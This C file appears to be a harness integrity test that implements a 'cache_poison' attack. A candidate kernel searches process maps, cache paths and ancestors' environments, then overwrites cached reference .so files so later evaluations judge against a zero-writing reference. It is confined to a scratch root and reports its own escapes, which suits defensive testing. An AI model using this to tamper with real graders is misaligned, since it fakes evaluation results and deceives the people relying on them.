/*
 * ATTACK cache_poison — rewrite the compile cache so that later
 * evaluations judge against a fake reference. The kernel finds the cache
 * from its own path (dladdr: cache_dir/<key>.so), /proc/self/maps (the
 * reference .so is mapped from the same directory), $AVO_CACHE,
 * $XDG_CACHE_HOME/avo, $HOME/.cache/avo and the same variables in every
 * ancestor's /proc/PID/environ, and replaces every other shared object
 * there with a copy of itself. Its own "mm_ref" writes zeros, so from then on
 * the cached reference is a zero writer: honest kernels fail, and a kernel
 * writing zeros passes, for every run that uses this cache
 * (eval/cpu/cpu.c: compile_cached trusts any file named <key>.so).
 * Only files under the test's scratch root are touched.
 * Stopped by: cache and archive unreachable or read-only from the
 * candidate (item 2) and cache entries checked by content hash (item 4).
 * integrity: expect=any
 * integrity: escapes=unisolated/user
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <limits.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#ifndef INTEGRITY_ROOT
#define INTEGRITY_ROOT "/nonexistent-integrity-root"
#endif

/* Ancestors are walked only below the test's driver (its pid comes in
 * -DINTEGRITY_DRIVER), so nothing outside the test is ever read or touched;
 * without it, at most the three nearest (judge, worker, engine). */
#ifndef INTEGRITY_DRIVER
#define INTEGRITY_DRIVER 0
#endif
#define ANCESTOR_OK(pid, depth)                                                                    \
    ((pid) > 1 && (pid) != INTEGRITY_DRIVER && (depth) < (INTEGRITY_DRIVER ? 8 : 3))

/* Destructive steps are limited to the test's scratch root. */
/* A step that worked is reported on stdout and stderr with this marker, and
 * the kernel then fails on purpose, so its output is kept as the log: the
 * test sees the escape even where it cannot see the effect (a private
 * mount view, a namespace). */
static int escapes;
static void escaped(const char *fmt, ...)
{
    char line[1024];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(line, sizeof line, fmt, ap);
    va_end(ap);
    printf("INTEGRITY-ESCAPE: %s\n", line);
    fprintf(stderr, "INTEGRITY-ESCAPE: %s\n", line);
    fflush(stdout);
    escapes++;
}

static int in_root(const char *path)
{
    char real[PATH_MAX];
    const char *p = realpath(path, real) ? real : path;
    size_t n = strlen(INTEGRITY_ROOT);
    return strncmp(p, INTEGRITY_ROOT, n) == 0 && (p[n] == '/' || p[n] == '\0');
}

static char self_path[PATH_MAX];
static int poisoned;

static void poison_dir(const char *dir)
{
    if (!in_root(dir))
        return;
    DIR *d = opendir(dir);
    if (!d)
        return;
    int src = open(self_path, O_RDONLY | O_CLOEXEC);
    struct stat st;
    if (src < 0 || fstat(src, &st) < 0) {
        closedir(d);
        return;
    }
    char *image = malloc((size_t)st.st_size);
    if (!image || pread(src, image, (size_t)st.st_size, 0) != st.st_size) {
        free(image);
        close(src);
        closedir(d);
        return;
    }
    close(src);
    struct dirent *e;
    while ((e = readdir(d))) {
        size_t len = strlen(e->d_name);
        char path[PATH_MAX * 2], tmp[PATH_MAX * 2 + 8];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (len < 4 || strcmp(e->d_name + len - 3, ".so") != 0 || strcmp(path, self_path) == 0)
            continue;
        snprintf(tmp, sizeof tmp, "%s.tmp", path);
        int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0)
            continue;
        int ok = write(fd, image, (size_t)st.st_size) == st.st_size;
        close(fd);
        if (ok && rename(tmp, path) == 0) {
            escaped("replaced %s", path);
            poisoned = 1;
        } else {
            unlink(tmp);
        }
    }
    free(image);
    closedir(d);
}

static void poison_base(const char *base, const char *suffix)
{
    if (!base || !*base)
        return;
    char dir[PATH_MAX];
    snprintf(dir, sizeof dir, "%s%s", base, suffix);
    poison_dir(dir);
    snprintf(dir, sizeof dir, "%s%s/cpu", base, suffix);
    poison_dir(dir);
}

static void poison_from_environ(const char *env, size_t len)
{
    for (size_t i = 0; i < len; i += strlen(env + i) + 1) {
        const char *v = env + i;
        if (!strncmp(v, "AVO_CACHE=", 10))
            poison_base(v + 10, "");
        else if (!strncmp(v, "XDG_CACHE_HOME=", 15))
            poison_base(v + 15, "/avo");
        else if (!strncmp(v, "HOME=", 5))
            poison_base(v + 5, "/.cache/avo");
    }
}

static void attack(void)
{
    static int done;
    if (done++)
        return;
    Dl_info info;
    if (dladdr((void *)attack, &info) && info.dli_fname)
        realpath(info.dli_fname, self_path);
    char dir[PATH_MAX];
    snprintf(dir, sizeof dir, "%s", self_path);
    if (strrchr(dir, '/'))
        *strrchr(dir, '/') = '\0', poison_dir(dir);

    FILE *maps = fopen("/proc/self/maps", "r");
    char line[PATH_MAX + 128];
    while (maps && fgets(line, sizeof line, maps)) {
        char *path = strchr(line, '/');
        if (!path)
            continue;
        path[strcspn(path, "\n")] = '\0';
        if (strrchr(path, '/'))
            *strrchr(path, '/') = '\0', poison_dir(path);
    }
    if (maps)
        fclose(maps);

    poison_base(getenv("AVO_CACHE"), "");
    poison_base(getenv("XDG_CACHE_HOME"), "/avo");
    poison_base(getenv("HOME"), "/.cache/avo");
    for (pid_t pid = getppid(), depth = 0; ANCESTOR_OK(pid, depth); depth++) {
        char path[64], env[65536];
        snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            ssize_t n = read(fd, env, sizeof env - 1);
            close(fd);
            if (n > 0)
                env[n] = '\0', poison_from_environ(env, (size_t)n);
        }
        snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
        FILE *f = fopen(path, "r");
        int ppid = 0;
        if (!f || fscanf(f, "%*d %*s %*c %d", &ppid) != 1)
            ppid = 0;
        if (f)
            fclose(f);
        pid = ppid;
    }
}

/* What the cached "reference" becomes: an answer of zeros. */
void mm_ref(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    (void)K, (void)A, (void)B;
    memset(C, 0, sizeof(float) * (size_t)M * (size_t)N);
}

void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    attack();
    if (escapes)
        abort();
    mm_ref(M, N, K, A, B, C);
}
